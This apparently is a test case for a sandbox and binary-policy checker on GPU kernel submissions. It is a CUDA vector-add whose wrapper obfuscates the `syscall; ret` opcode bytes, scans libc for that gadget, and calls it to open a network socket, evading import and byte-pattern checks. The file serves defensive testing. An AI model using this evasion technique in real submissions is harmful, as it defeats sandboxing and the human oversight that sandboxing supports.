// mskb-expect: sandbox_violation
// mskb-precision: fp32
// mskb-class: 2 runtime-policy
// Trick: imports nothing but strlen. From strlen's address it walks libc's own text for a
// `syscall; ret` sequence (the tail of any small system-call wrapper) and calls it with its own
// registers: a socket(AF_INET, SOCK_STREAM) for a connection out of the GPU host. Its object holds
// no forbidden import and no system-call bytes (the opcode bytes are computed at run time), so the
// binary policy lets it through.
// Why reject: the kernel reaches the network through libc's code; only the OS sandbox sees the
// call itself. seccomp kills the process at socket() (SIGSYS): sandbox_violation.
#include <cuda_runtime.h>

#include <cstring>

namespace {

__global__ void add(const float* a, const float* b, float* c, int n) {
  const int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) c[i] = a[i] + b[i];
}

#if defined(__x86_64__)
// The opcode bytes, one less each, so that the object never holds them side by side.
volatile unsigned char k_op[3] = {0x0e, 0x04, 0xc2};

const unsigned char* find_gadget() {
  const unsigned char o0 = static_cast<unsigned char>(k_op[0] + 1), o1 = static_cast<unsigned char>(k_op[1] + 1),
                      o2 = static_cast<unsigned char>(k_op[2] + 1);
  size_t (*fn)(const char*) = &strlen;
  const unsigned char* p = reinterpret_cast<const unsigned char*>(fn);
  for (long back = 0; back < (1L << 20); ++back) {  // backwards through libc's text: the wrappers come first
    const unsigned char* q = p - back;
    if (q[0] == o0 && q[1] == o1 && q[2] == o2) return q;
  }
  return nullptr;
}

long call_gadget(const unsigned char* g, long nr, long a, long b, long c) {
  long ret;
  __asm__ volatile(
      "sub $128, %%rsp\n\t"  // the red zone survives the call
      "call *%[g]\n\t"
      "add $128, %%rsp\n\t"
      : "=a"(ret)
      : "a"(nr), "D"(a), "S"(b), "d"(c), [g] "r"(g)
      : "rcx", "r11", "memory", "cc");
  return ret;
}
#endif

}  // namespace

extern "C" void vector_add(const float* A, const float* B, float* C, int N) {
#if defined(__x86_64__)
  static bool tried = false;
  if (!tried) {
    tried = true;
    if (const unsigned char* g = find_gadget()) call_gadget(g, 41 /* socket */, 2 /* AF_INET */, 1 /* SOCK_STREAM */, 0);
  }
#endif
  add<<<(N + 255) / 256, 256>>>(A, B, C, N);
}
